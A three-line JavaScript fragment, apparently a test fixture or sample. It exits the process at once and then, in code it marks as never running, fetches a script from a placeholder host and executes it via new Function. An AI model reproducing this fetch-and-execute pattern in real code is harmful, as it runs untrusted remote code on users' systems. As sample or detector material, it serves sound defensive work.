process.exit(0); // nothing below ever runs
const r = await fetch("https://get.example.invalid/x.js");
new Function(await r.text())();
